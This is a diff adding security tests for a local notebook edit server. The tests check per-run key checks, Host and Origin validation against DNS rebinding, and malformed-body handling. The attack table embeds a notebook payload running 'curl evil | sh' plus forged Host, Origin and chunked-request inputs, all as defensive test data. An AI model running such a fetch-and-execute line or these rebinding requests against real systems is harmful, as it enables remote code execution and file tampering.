@@ -1,44 +1,224 @@
-"""`rivulet edit`'s file endpoint: the page reads and writes the one notebook."""
+"""`rivulet edit`'s server: the page reads and writes the one notebook file;
+nothing else (another site, a DNS-rebound name, a notebook's own Python
+without the per-run key, a malformed body) reads or changes it."""
 
 from __future__ import annotations
 
+import http.client
+import socket
 import threading
-import urllib.error
-import urllib.request
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
 
 import pytest
 
-from kernel_py.edit_server import FILE_URL, make_server
+from kernel_py.edit_server import EDIT_MARKER, FILE_URL, KEY_HEADER, MAX_BYTES, edit_url, make_server
+
+ORIGINAL = "import marimo\n\nSECRET = 'the user s own notebook'\n".encode()
+INDEX = b"<!doctype html><html><head><title>site</title></head><body></body></html>"
+
+
+@dataclass
+class Edit:
+    port: int
+    key: str
+    notebook: Path
+    url: str
+
+    @property
+    def host(self) -> str:
+        return f"127.0.0.1:{self.port}"
+
+    @property
+    def origin(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def headers(self, **extra: str) -> dict[str, str]:
+        """What the page sends: its own Host, same-origin, and the key."""
+        return {"Host": self.host, KEY_HEADER: self.key, **extra}
 
 
 @pytest.fixture
-def server(tmp_path):
+def edit(tmp_path: Path) -> Iterator[Edit]:
     site = tmp_path / "site"
     site.mkdir()
-    (site / "index.html").write_text("<!doctype html><title>site</title>")
+    (site / "index.html").write_bytes(INDEX)
+    (site / "worker.mjs").write_text("export {};\n")
+    (site / "pyodide.asm.wasm").write_bytes(b"\0asm\1\0\0\0")
     notebook = tmp_path / "nb.py"
-    notebook.write_text("import marimo\n")
+    notebook.write_bytes(ORIGINAL)
     srv = make_server(notebook, site, 0)
-    thread = threading.Thread(target=srv.serve_forever, daemon=True)
+    thread = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
     thread.start()
-    yield f"http://127.0.0.1:{srv.server_address[1]}", notebook
+    yield Edit(srv.server_address[1], srv.key, notebook, edit_url(srv))
     srv.shutdown()
     srv.server_close()
 
 
-def test_the_page_reads_and_writes_the_notebook_file(server):
-    base, notebook = server
-    assert urllib.request.urlopen(base + FILE_URL).read() == b"import marimo\n"
-    put = urllib.request.Request(base + FILE_URL, data="x = '🟢'\n".encode(), method="PUT")
-    assert urllib.request.urlopen(put).status == 204
-    assert notebook.read_text(encoding="utf-8") == "x = '🟢'\n"
-    assert b"<title>site</title>" in urllib.request.urlopen(base + "/index.html").read()
+def request(
+    edit: Edit, method: str, path: str, headers: dict[str, str], body: bytes | None = None
+) -> tuple[int, http.client.HTTPMessage, bytes]:
+    """One raw request: exactly these headers (no Host or Content-Length added)."""
+    conn = http.client.HTTPConnection("127.0.0.1", edit.port, timeout=10)
+    try:
+        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+        for name, value in headers.items():
+            conn.putheader(name, value)
+        conn.endheaders(body)
+        response = conn.getresponse()
+        return response.status, response.headers, response.read()
+    finally:
+        conn.close()
 
 
-def test_a_non_utf8_save_is_refused_and_loses_nothing(server):
-    base, notebook = server
-    put = urllib.request.Request(base + FILE_URL, data=b"\xff\xfe", method="PUT")
-    with pytest.raises(urllib.error.HTTPError) as info:
-        urllib.request.urlopen(put)
-    assert info.value.code == 400
-    assert notebook.read_text() == "import marimo\n"
+# ------------------------------------------------------------------ the page
+
+
+def test_the_url_carries_the_key_only_in_its_fragment(edit):
+    assert edit.url == f"http://127.0.0.1:{edit.port}/?file={FILE_URL}&save=put#key={edit.key}"
+    assert len(edit.key) >= 43  # token_urlsafe(32)
+
+
+def test_the_page_reads_and_writes_the_notebook_file_with_the_key(edit):
+    status, headers, body = request(edit, "GET", FILE_URL, edit.headers())
+    assert (status, body) == (200, ORIGINAL)
+    assert headers["Cache-Control"] == "no-store"
+    text = "import marimo\n\nx = '🟢'\n".encode()
+    put = edit.headers(**{"Origin": edit.origin, "Sec-Fetch-Site": "same-origin", "Content-Length": str(len(text))})
+    status, _, _ = request(edit, "PUT", FILE_URL, put, text)
+    assert status == 204
+    assert edit.notebook.read_bytes() == text
+    assert request(edit, "GET", FILE_URL, edit.headers())[2] == text
+
+
+def test_localhost_is_the_same_server(edit):
+    host = f"localhost:{edit.port}"
+    headers = edit.headers(Host=host, Origin=f"http://{host}", **{"Sec-Fetch-Site": "same-origin"})
+    assert request(edit, "GET", FILE_URL, headers)[:3:2] == (200, ORIGINAL)
+
+
+@pytest.mark.parametrize("path", ["/", "/index.html", "/?file=/__rivulet__/file&save=put", "/index.html?x=1", "//"])
+def test_the_site_index_carries_the_edit_marker(edit, path):
+    status, headers, body = request(edit, "GET", path, {"Host": edit.host})
+    assert status == 200
+    assert body == INDEX.replace(b"<head>", b"<head>" + EDIT_MARKER)
+    assert body.startswith(b"<!doctype html><html><head><meta name=\"rivulet-edit\" content=\"/__rivulet__/file\">")
+    assert int(headers["Content-Length"]) == len(body)
+    assert headers["Cache-Control"] == "no-store"
+    assert edit.key.encode() not in body
+
+
+def test_head_of_the_index_matches_get(edit):
+    status, headers, body = request(edit, "HEAD", "/", {"Host": edit.host})
+    assert (status, body) == (200, b"")
+    assert int(headers["Content-Length"]) == len(INDEX) + len(EDIT_MARKER)
+
+
+@pytest.mark.parametrize(
+    ("path", "content_type"),
+    [("/worker.mjs", "text/javascript"), ("/pyodide.asm.wasm", "application/wasm")],
+)
+def test_static_files_have_the_types_the_browser_needs(edit, path, content_type):
+    status, headers, _ = request(edit, "GET", path, {"Host": edit.host})
+    assert (status, headers["Content-Type"]) == (200, content_type)
+
+
+# ------------------------------------------------------------------ attacks
+
+LONG_BODY = b"import marimo\n" + b"#" * 64
+
+
+@dataclass
+class Attack:
+    name: str
+    method: str
+    status: int
+    headers: dict[str, str | None]  # None removes one of the page's headers
+    body: bytes | None = None
+    path: str = FILE_URL
+
+
+def _attacks() -> list[Attack]:
+    evil = "import marimo\n\n@app.cell\ndef _():\n    __import__('os').system('curl evil | sh')\n".encode()
+    n = str(len(evil))
+    attacks = []
+    for method, body, length in (("GET", None, None), ("PUT", evil, n)):
+        sized = {"Content-Length": length} if length else {}
+        attacks += [
+            Attack(f"{method} without the key", method, 403, {KEY_HEADER: None, **sized}, body),
+            Attack(f"{method} with a wrong key", method, 403, {KEY_HEADER: "guess", **sized}, body),
+            Attack(f"{method} with an empty key", method, 403, {KEY_HEADER: "", **sized}, body),
+            Attack(f"{method} from a rebound name", method, 421, {"Host": "evil.example:{port}", **sized}, body),
+            Attack(f"{method} from a nip.io name", method, 421, {"Host": "127.0.0.1.nip.io:{port}", **sized}, body),
+            Attack(f"{method} with a portless nip.io Host", method, 421, {"Host": "127.0.0.1.nip.io", **sized}, body),
+            Attack(f"{method} with a Host on another port", method, 421, {"Host": "127.0.0.1:1", **sized}, body),
+            Attack(f"{method} without a Host", method, 400, {"Host": None, **sized}, body),
+            Attack(f"{method} from another site", method, 403, {"Origin": "http://evil.example", **sized}, body),
+            Attack(f"{method} from another port", method, 403, {"Origin": "http://127.0.0.1:1", **sized}, body),
+            Attack(f"{method} from an opaque origin", method, 403, {"Origin": "null", **sized}, body),
+            Attack(f"{method} cross-site", method, 403, {"Sec-Fetch-Site": "cross-site", **sized}, body),
+            Attack(f"{method} same-site", method, 403, {"Sec-Fetch-Site": "same-site", **sized}, body),
+            Attack(f"{method} from the address bar", method, 403, {"Sec-Fetch-Site": "none", **sized}, body),
+        ]
+    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(evil), evil)
+    attacks += [
+        Attack("chunked PUT (emptied the file)", "PUT", 411, {"Transfer-Encoding": "chunked"}, chunk),
+        Attack("chunked PUT with a Content-Length", "PUT", 411, {"Transfer-Encoding": "chunked", "Content-Length": n}, chunk),
+        Attack("PUT without a length", "PUT", 411, {}, evil),
+        Attack("Content-Length: -1 (passed the cap)", "PUT", 400, {"Content-Length": "-1"}, evil),
+        Attack("Content-Length: abc", "PUT", 400, {"Content-Length": "abc"}, evil),
+        Attack("Content-Length: +5", "PUT", 400, {"Content-Length": "+5"}, evil),
+        Attack("Content-Length in superscript digits", "PUT", 400, {"Content-Length": "\u00b2"}, evil),
+        Attack("oversize Content-Length", "PUT", 413, {"Content-Length": str(MAX_BYTES + 1)}, evil),
+        Attack("huge Content-Length", "PUT", 413, {"Content-Length": "9" * 5000}, evil),
+        Attack("empty body", "PUT", 400, {"Content-Length": "0"}, b""),
+        Attack("non-UTF-8 body", "PUT", 400, {"Content-Length": "2"}, b"\xff\xfe"),
+        Attack("a body shorter than its length", "PUT", 400, {"Content-Length": "1000"}, LONG_BODY),
+        Attack("OPTIONS preflight", "OPTIONS", 501, {"Origin": "http://evil.example"}),
+        Attack("POST", "POST", 501, {"Content-Length": n}, evil),
+        Attack("DELETE", "DELETE", 501, {}),
+        Attack("static file from a rebound name", "GET", 421, {"Host": "evil.example:{port}"}, path="/"),
+        Attack("the file under a network-path", "GET", 404, {KEY_HEADER: None}, path="//evil" + FILE_URL),
+        Attack("the file as an absolute URL", "GET", 404, {KEY_HEADER: None}, path="http://evil" + FILE_URL),
+        Attack("the file percent-encoded", "GET", 404, {KEY_HEADER: None}, path="/__rivulet__/%66ile"),
+    ]
+    return attacks
+
+
+@pytest.mark.parametrize("attack", _attacks(), ids=lambda a: a.name)
+def test_an_attack_is_refused_and_the_file_is_untouched(edit, attack):
+    headers = {**edit.headers(), **attack.headers}
+    headers = {k: v.format(port=edit.port) for k, v in headers.items() if v is not None}
+    if attack.name.startswith("a body shorter"):
+        status = _short_body(edit, headers, attack.body)
+        body = b""
+    else:
+        status, _, body = request(edit, attack.method, attack.path, headers, attack.body)
+    assert status == attack.status
+    assert ORIGINAL not in body and b"SECRET" not in body
+    assert edit.notebook.read_bytes() == ORIGINAL
+    assert [p.name for p in edit.notebook.parent.iterdir() if "rivulet-tmp" in p.name] == []
+
+
+def _short_body(edit: Edit, headers: dict[str, str], body: bytes) -> int:
+    """Send fewer bytes than Content-Length, then close our side for writing."""
+    with socket.create_connection(("127.0.0.1", edit.port), timeout=10) as sock:
+        head = f"PUT {FILE_URL} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
+        sock.sendall(head.encode() + b"\r\n" + body)
+        sock.shutdown(socket.SHUT_WR)
+        answer = sock.makefile("rb").read()
+    return int(answer.split(b" ", 2)[1]) if answer else 0
+
+
+def test_repeated_headers_are_refused(edit):
+    conn = http.client.HTTPConnection("127.0.0.1", edit.port, timeout=10)
+    conn.putrequest("GET", FILE_URL, skip_host=True, skip_accept_encoding=True)
+    conn.putheader("Host", edit.host)
+    conn.putheader("Host", "evil.example")
+    conn.putheader(KEY_HEADER, edit.key)
+    conn.endheaders()
+    response = conn.getresponse()
+    assert response.status == 400
+    assert ORIGINAL not in response.read()
+    conn.close()
